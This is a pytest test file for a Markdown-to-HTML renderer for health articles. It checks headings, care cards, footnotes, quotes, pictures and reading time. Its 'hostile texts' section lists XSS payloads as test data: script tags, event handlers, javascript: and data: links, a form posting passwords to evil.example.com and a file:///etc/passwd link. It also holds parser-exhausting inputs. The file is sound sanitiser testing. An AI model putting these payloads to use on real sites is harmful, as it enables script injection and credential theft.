"""Markdown to safe HTML: what an article may hold, and what a hostile text may not do."""

import re
import time
from html.parser import HTMLParser

import pytest

from tests import factories
from treatments.rendering import MAX_CHARACTERS, TAGS, Heading, render


def html(text, **options):
    return " ".join(render(text, **options).html.split())


def ids(text, **options):
    return re.findall(r' id="([^"]*)"', render(text, **options).html)


# --- Headings and contents ------------------------------------------------------------------------------------------


def test_a_heading_of_level_1_becomes_level_2_because_the_page_has_its_own():
    assert html("# Why?") == '<h2 id="why">Why?</h2>'


def test_the_contents_list_has_sections_and_their_steps_and_nothing_deeper():
    prose = render("## One\n\n### Step *one*\n\n#### Too deep\n\n## Two")
    assert prose.contents == (
        Heading("one", "One", (Heading("step-one", "Step one"),)),
        Heading("two", "Two"),
    )


def test_a_step_before_any_section_stands_on_its_own():
    assert render("### First\n\n## Second").contents == (Heading("first", "First"), Heading("second", "Second"))


def test_headings_of_the_same_words_get_ids_of_their_own():
    assert ids("## Rest\n\n## Rest\n\n## Rest\n\n## Rest 2") == ["rest", "rest-2", "rest-3", "rest-2-2"]


def test_a_heading_does_not_take_an_id_of_the_page():
    assert ids("## References\n\n## Main\n\n## Top") == ["references-2", "main-2", "top-2"]


def test_a_prefix_keeps_two_texts_of_one_page_apart():
    text = "## Rest\n\nWords.[^1]\n\n::: urgent Call\nNow.\n:::\n\n[^1]: A note."
    first, second = ids(text, prefix="about"), ids(text, prefix="after")
    assert first == ["about-rest", "fnref-about-1", "about-call", "fn-about-1"]
    assert set(first) & set(second) == set()


@pytest.mark.parametrize(
    ("text", "expected"), [("## ???", "section"), ("## 痛み", "section"), ("## Café au lait", "cafe-au-lait")]
)
def test_every_heading_has_an_id(text, expected):
    assert ids(text) == [expected]


# --- Lists, tables, footnotes ---------------------------------------------------------------------------------------


def test_a_numbered_list_keeps_counting_across_a_card():
    assert re.findall(r"<ol[^>]*>", html("1. Rest\n2. Heat\n\n::: urgent Call\nNow.\n:::\n\n3. Move")) == [
        "<ol>",
        '<ol start="3">',
    ]


def test_the_columns_of_a_table_line_up_by_class_never_by_style():
    table = html("| a | b | c |\n|---|:-:|--:|\n| 1 | 2 | 3 |")
    assert table.startswith('<div class="table-scroll"><table>')
    cells = ["<{}>", '<{} class="text-center">', '<{} class="text-end">']
    assert re.findall(r"<t[hd]\b[^>]*>", table) == [cell.format(tag) for tag in ("th", "td") for cell in cells]


def test_a_footnote_leads_there_and_back_with_words():
    text = html("It helps.[^1]\n\n[^1]: A little.")
    assert '<sup class="footnote-ref"><a href="#fn1" id="fnref1">[1]</a></sup>' in text
    assert '<li id="fn1"><p>A little. <a aria-label="Back to the text" href="#fnref1" class="footnote-backref">' in text


def test_quotes_and_dots_are_set_as_a_printer_would():
    assert html('"Rest"... it\'s fine') == "<p>“Rest”… it’s fine</p>"


# --- Containers -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "shade", "spoken"),
    [("emergency", "emergency", "Emergency:"), ("urgent", "urgent", "Urgent:"), ("self-care", "self", "Self-care:")],
)
def test_a_care_card_says_what_it_is_without_its_color(kind, shade, spoken):
    assert html(f"::: {kind} Call 911\n- a rash\n:::") == (
        f'<section class="care-card care-card--{shade}" aria-labelledby="call-911">'
        f'<h2 class="care-card__title" id="call-911"><span class="visually-hidden">{spoken}</span> Call 911</h2>'
        '<div class="care-card__body"> <ul> <li>a rash</li> </ul> </div></section>'
    )


def test_a_card_without_a_title_shows_what_it_is():
    assert '<h2 class="care-card__title" id="card">Emergency</h2>' in html("::: emergency\nNow.\n:::")


def test_a_card_stands_one_level_below_its_section():
    assert re.findall(
        r"<h\d", html("::: urgent A\n:::\n\n## B\n\n::: urgent C\n:::\n\n### D\n\n::: urgent E\n:::")
    ) == [
        "<h2",
        "<h2",
        "<h3",
        "<h3",
        "<h4",
    ]


def test_a_pull_quote_names_who_said_it():
    assert html("::: pull Ada\nIt helped.\n:::") == (
        '<figure class="pull-quote"><blockquote> <p>It helped.</p> </blockquote><figcaption>Ada</figcaption></figure>'
    )
    assert "figcaption" not in html("::: pull\nIt helped.\n:::")


def test_a_container_nobody_knows_stays_text():
    assert html("::: warning Careful\nText\n:::") == "<p>::: warning Careful Text :::</p>"


def test_a_card_of_self_care_may_be_called_not_urgent_too():
    assert html("::: not-urgent Try\nRest.\n:::") == html("::: self-care Try\nRest.\n:::")


@pytest.mark.parametrize(("kind", "spoken"), [("note", "Note"), ("tip", "Tip")])
def test_a_callout_says_what_it_is(kind, spoken):
    assert html(f"::: {kind} Before you go\nEat.\n:::") == (
        f'<div class="callout callout--{kind}"><p class="callout__title"><span class="visually-hidden">{spoken}:</span> '
        "Before you go</p> <p>Eat.</p> </div>"
    )
    assert f'<p class="callout__title">{spoken}</p>' in html(f"::: {kind}\nEat.\n:::")


def test_lists_of_steps_count_on_whatever_stands_between():
    text = ":::: steps\n1. a\n2. b\n\n::: note\nWait.\n:::\n\n1. c\n   1. inner\n\n- x\n\nWords.\n\n1. d\n::::\n\n1. e"
    assert re.findall(r"<ol[^>]*>", html(text)) == ["<ol>", '<ol start="3">', "<ol>", '<ol start="4">', "<ol>"]


# --- Quotes, pictures, questions ------------------------------------------------------------------------------------


@pytest.mark.parametrize("dash", ["--", "---", "—", "–"])
def test_a_quote_names_who_said_it_in_its_last_line(dash):
    assert html(f"> Rest well.\n> {dash} *Ada* Vale") == (
        '<figure class="quote"> <blockquote> <p>Rest well.</p> </blockquote> <figcaption><em>Ada</em> Vale</figcaption> '
        "</figure>"
    )


def test_a_name_may_stand_in_a_paragraph_of_its_own():
    assert html("> Rest.\n>\n> -- Ada") == html("> Rest.\n> -- Ada")


@pytest.mark.parametrize("text", ["> Rest.", "> Rest.\n> --", "> - a\n> - b"])
def test_a_quote_without_a_name_stays_a_quote(text):
    assert "<figure" not in html(text)


def test_a_picture_of_ours_stands_alone_with_its_caption():
    spine = factories.PictureFactory.build(slug="spine", credit="Drawn by us", alt='A "spine"')
    assert html("![The *neck* <b>](picture:spine)", pictures={"spine": spine}) == (
        f'<figure class="picture"><img src="{spine.file.url}" alt="A &quot;spine&quot;" loading="lazy" width="480" '
        'height="320"><figcaption>The neck &lt;b&gt; Drawn by us</figcaption></figure>'
    )


@pytest.mark.parametrize(
    "text", ["![x](picture:other)", "Words ![x](picture:spine)", "![x](/media/pictures/spine.webp)", "![x](picture:)"]
)
def test_every_other_picture_is_its_caption_only(text):
    spine = factories.PictureFactory.build(slug="spine")
    assert html(text, pictures={"spine": spine}) in ("<p>x</p>", "<p>Words x</p>")


def test_headings_that_ask_are_questions_with_what_follows():
    text = (
        "## Why?\n\nIt *is*\nsore.[^1]\n\n- a\n\n### How?\n\nSo.\n\n#### More\n\nYes.\n\n## End\n\nNo.\n\n[^1]: Note."
    )
    assert render(text).questions == (("Why?", "It is sore. a"), ("How?", "So. More Yes."))
    assert render("## Why?\n\n## And?").questions == ()


# --- Length ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("words", "minutes"), [(0, 0), (1, 1), (220, 1), (329, 1), (331, 2), (2200, 10)])
def test_reading_time_is_words_by_220_and_at_least_a_minute(words, minutes):
    prose = render("word " * words)
    assert (prose.words, prose.minutes) == (words, minutes)


def test_headings_lists_tables_and_notes_are_words_too():
    assert render("## One two\n\n- three\n\n| four |\n|---|\n| five |\n\nsix[^1]\n\n[^1]: seven eight").words == 8


# --- Hostile texts --------------------------------------------------------------------------------------------------

# fmt: off
HOSTILE = [
    "<script>alert(1)</script>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<iframe src='https://evil.example.com'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://evil.example.com/pixel.png)",
    "<javascript:alert(1)>",
    '[x](https://example.com "x\\" onclick=\\"alert(1)")',
    '::: emergency <img src=x onerror=alert(1)>"\nText\n:::',
    '::: pull <script>alert(1)</script>" onclick="alert(1)\nText\n:::',
    '## <b onclick=alert(1)>Title</b> {#id onclick=alert(1)}',
    '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
    "| <script>alert(1)</script> |\n|:-:|\n| [x](javascript:alert(1)) |",
    "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "</section></div></main><h1>x</h1>",
    "[x](file:///etc/passwd)",
    "::: care-card evil\nx\n:::",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{display:none}</style>\n\n<form action=https://evil.example.com><input name=password></form>",
]
# fmt: on


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_stays_text(text):
    page = Elements()
    page.feed(render(text).html)
    assert page.tags <= TAGS
    assert page.attributes <= {"id", "class", "href", "title", "aria-label", "aria-labelledby"}
    assert {link.partition(":")[0] for link in page.links} <= {"https", "#fn1", "#fnref1"}


class Elements(HTMLParser):
    """What a browser would make of it."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.links = set(), set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _value in attrs}
        self.links += [value for name, value in attrs if name == "href"]


def test_the_title_of_a_heading_in_the_contents_is_plain_text():
    (heading,) = render("## <script>alert(1)</script> & more").contents
    assert heading.title == "<script>alert(1)</script> & more"


@pytest.mark.parametrize("opening", ["> ", "- ", "[", "*a **b ", "(", "1. ", "::: urgent a\n", "`"])
def test_deep_nesting_is_cut_short_not_followed(opening):
    assert render(opening * 3000 + "x").html.count("<") < 10_000


def test_what_is_longer_than_any_article_is_cut():
    assert render("a" * 1_000_000).html == f"<p>{'a' * MAX_CHARACTERS}</p>\n"
    assert render("a " * 1_000_000).words == MAX_CHARACTERS // 2


def test_links_lead_to_pages_mail_and_phones_only():
    page = Elements()
    page.feed(render("[a](/a/) [b](https://example.com) [c](mailto:c@example.com) [d](tel:+1518) [e](ftp://e)").html)
    assert page.links == ["/a/", "https://example.com", "mailto:c@example.com", "tel:+1518"]


# fmt: off
MONSTERS = {
    "stars": "*a " * 100_000,
    "links": "[a](" * 50_000,
    "cards": "::: urgent x\n" * 10_000,
    "pull quotes": "::: pull a\nx\n:::\n" * 8_000,
    "footnotes": "[^a]" * 50_000,
    "equal headings": "# a\n" * 50_000,
    "quotation marks": '"' * 100_000,
    "pictures in pictures": "![" * 3_000 + "x" + "](a)" * 3_000,
    "notes with their texts": "".join(f"[^{n}]\n\n[^{n}]: x\n\n" for n in range(6_000)),
    "quotes with names": "> a\n> -- b\n\n" * 8_000,
    "open callouts": "::: note\n" * 10_000,
    "quotes in quotes": "\n".join(">" * depth for depth in range(1, 400)),
    "a table": "|a" * 20_000 + "\n" + "|-" * 20_000 + "\n" + "|\n" * 2_000,
}
# fmt: on


@pytest.mark.parametrize("text", MONSTERS.values(), ids=MONSTERS)
def test_a_monstrous_text_costs_seconds_not_minutes(text):
    began = time.process_time()
    render(text)
    assert time.process_time() - began < 15  # about 1 s each; the room is for slow machines
